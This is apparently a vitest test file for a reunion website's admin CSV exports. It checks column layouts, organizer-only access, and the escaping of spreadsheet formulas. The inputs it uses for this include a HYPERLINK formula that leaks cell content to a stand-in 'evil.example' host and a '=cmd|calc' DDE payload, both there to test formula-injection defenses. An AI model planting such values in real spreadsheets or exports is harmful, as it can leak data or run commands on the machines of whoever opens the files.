// The lists as spreadsheets: complete, without active formulas, and for organizers only.
import { expect, test } from 'vitest';
import { isActive, tableIn } from '#tests/support/csv.ts';
import { dinner } from '#tests/support/events.ts';
import { organized } from '#tests/support/organizers.ts';
import { house } from '#tests/support/rentals.ts';
import { member } from '#tests/support/rsvps.ts';
import type { Caller } from '#tests/support/test-site.ts';

async function tableOf(who: Caller, name: string) {
  const answer = await who('GET', `/api/admin/exports/${name}`);
  expect(answer.statusCode, answer.body).toBe(200);
  expect(answer.headers).toMatchObject({
    'content-type': 'text/csv; charset=utf-8; header=present',
    'content-disposition': `attachment; filename="${name}.csv"`,
    'cache-control': 'no-store',
    'x-content-type-options': 'nosniff',
  });
  const table = tableIn(answer.body);
  expect(table.flatMap((line) => Object.values(line)).filter(isActive)).toEqual([]);
  return table;
}

test('people: one line per account, without secrets', async () => {
  const { olivia, as } = await organized();
  await as({ fullName: '=HYPERLINK("http://evil.example","Ann, \n"&A1)' });
  const bea = await as({ fullName: 'Bea Miller' });
  const sent = await bea('PUT', '/api/profile', {
    fullName: 'Bea Miller',
    phone: '302-555-0199',
    rentalLocation: '9 Second Street',
    emergencyContact: 'Bob, 302-555-0100',
    email: 'bea@example.org',
  });
  expect(sent.statusCode, sent.body).toBe(200);
  const table = await tableOf(olivia, 'people');
  expect(table.map((line) => line['Full Name'])).toEqual([
    'First of All',
    'Olivia Organizer',
    '\'=HYPERLINK("http://evil.example","Ann, \n"&A1)',
    'Bea Miller',
  ]);
  expect(table[1]).toMatchObject({
    ID: '2',
    Admin: 'Yes',
    Authorized: 'Yes',
    Registered: '2025-07-01 08:00',
  });
  expect(table[3]).toEqual({
    ID: '4',
    Username: 'someone4',
    'Full Name': 'Bea Miller',
    Email: 'bea@example.org',
    'Signs In With': 'someone4@example.org',
    Phone: '302-555-0199',
    'Rental Location': '9 Second Street',
    'Emergency Contact': 'Bob, 302-555-0100',
    Admin: 'No',
    Authorized: 'No',
    Registered: '2025-07-01 08:00',
  });
  expect(Object.keys(table[0] ?? {})).toEqual([
    'ID',
    'Username',
    'Full Name',
    'Email',
    'Signs In With',
    'Phone',
    'Rental Location',
    'Emergency Contact',
    'Admin',
    'Authorized',
    'Registered',
  ]);
});

test('RSVPs: one line per person, with the family and its status', async () => {
  const { olivia, as, db } = await organized();
  const ann = await as({ fullName: 'Ann Miller' });
  const members = [
    member('Ann Miller', { phone: '+1 302', email: 'ann@example.org' }),
    member('@Bob', { departing: '2025-07-30' }),
  ];
  await ann('POST', '/api/rsvps', { familyName: '-Miller', members });
  await db.updateTable('rsvps').set({ notes: 'Two cribs' }).execute();
  const empty = await as({ fullName: 'Cleo' });
  const { id } = (
    await empty('POST', '/api/rsvps', { familyName: 'Williams', members: [member('Cleo')] })
  ).json();
  await db.deleteFrom('rsvp_members').where('name', '=', 'Cleo').execute();
  const table = await tableOf(olivia, 'rsvps');
  expect(table[0]).toEqual({
    RSVP: '1',
    Family: "'-Miller",
    Status: 'pending',
    Name: 'Ann Miller',
    Email: 'ann@example.org',
    Phone: "'+1 302",
    Arriving: '2025-07-26',
    Departing: '2025-08-02',
    'Sent By': 'Ann Miller',
    'Contact Email': 'someone3@example.org',
    Sent: '2025-07-01 08:00',
    Decided: '',
    Notes: 'Two cribs',
  });
  expect(
    table.map((line) => [line.Family, line.Status, line.Name, line.Phone, line.Departing, line['Sent By']]),
  ).toEqual([
    ["'-Miller", 'pending', 'Ann Miller', "'+1 302", '2025-08-02', 'Ann Miller'],
    ["'-Miller", 'pending', "'@Bob", '', '2025-07-30', 'Ann Miller'],
    ['Williams', 'pending', '', '', '', 'Cleo'],
  ]);
  await olivia('POST', `/api/admin/rsvps/${id}/approve`);
  const decided = (await tableOf(olivia, 'rsvps')).map(({ Family, Decided }) => [Family, Decided]);
  expect(new Map(decided as [string, string][])).toEqual(
    new Map([
      ["'-Miller", ''],
      ['Williams', '2025-07-01 08:00'],
    ]),
  );
});

test('RSVPs: each once, with any number and any order of their families', async () => {
  const { olivia, db, person } = await organized();
  const families = ['Williams', 'Smith', 'Miller', 'Johnson', 'Brown', 'Anderson'];
  const sent = Array.from({ length: 24 }, (_, at) => `${families[Math.floor(at / 4)]} ${at}`);
  for (const family_name of sent) {
    const owner = { user_id: await person({ authorized: true }), reunion_id: 1 };
    await db
      .insertInto('rsvps')
      .values({ ...owner, family_name, status: 'pending', submitted_at: 1 })
      .execute();
  }
  expect((await tableOf(olivia, 'rsvps')).map(({ Family }) => Family)).toEqual(sent);
});

test('events: one line per sign-up, one for an event without any, none for a deleted one', async () => {
  const { olivia, as } = await organized();
  const [ann, bob] = [
    await as({ authorized: true, fullName: 'Ann' }),
    await as({ authorized: true, fullName: 'Bob' }),
  ];
  const { id } = (await olivia('POST', '/api/events', dinner({ title: '=Taco', maxAttendees: null }))).json();
  await olivia(
    'POST',
    '/api/events',
    dinner({ title: 'Walk', startTime: '2025-07-30T03:59:00Z', endTime: null }),
  );
  const gone = (await olivia('POST', '/api/events', dinner({ title: 'Gone' }))).json();
  await olivia('DELETE', `/api/events/${gone.id}`);
  for (const [who, attendeeCount] of [[ann, 2] as const, [bob, 3] as const])
    await who('POST', `/api/events/${id}/signup`, { attendeeCount });
  const table = await tableOf(olivia, 'events');
  expect(table[0]).toEqual({
    Event: '1',
    Title: "'=Taco",
    Starts: '2025-07-27 18:00',
    Ends: '2025-07-27 20:00',
    Location: '12 Ocean View Parkway',
    Type: 'dinner',
    Host: 'Olivia Organizer',
    'Max Attendees': 'Unlimited',
    'Signed Up': '5',
    Person: 'Ann',
    Attendees: '2',
    'Signed Up At': '2025-07-01 08:00',
    Description: 'Bring a chair.',
  });
  expect(
    table.map((line) => [line.Title, line['Signed Up'], line.Person, line.Attendees, line['Max Attendees']]),
  ).toEqual([
    ["'=Taco", '5', 'Ann', '2', 'Unlimited'],
    ["'=Taco", '5', 'Bob', '3', 'Unlimited'],
    ['Walk', '0', '', '', '10'],
  ]);
  // By the reunion's clock.
  expect(table[2]?.Starts).toBe('2025-07-29 23:59');
});

test('rentals: one line each', async () => {
  const { olivia, as } = await organized();
  const ann = await as({ authorized: true });
  await ann('POST', '/api/rentals', house({ notes: '=cmd|calc', latitude: 38.5, longitude: -75.05 }));
  expect(await tableOf(olivia, 'rentals')).toEqual([
    {
      ID: '1',
      Family: 'Miller',
      Address: '9 Second Street',
      'Check-in': '2025-07-26',
      'Check-out': '2025-08-02',
      'People Staying': 'Ann, Bob\nand the twins',
      Amenities: 'A porch swing',
      Notes: "'=cmd|calc",
      Latitude: '38.5',
      Longitude: '-75.05',
    },
  ]);
});

test('only organizers get a CSV file', async () => {
  const { as } = await organized();
  const ann = await as({ authorized: true });
  for (const name of ['people', 'rsvps', 'events', 'rentals', 'activity'])
    expect((await ann('GET', `/api/admin/exports/${name}`)).statusCode).toBe(403);
});
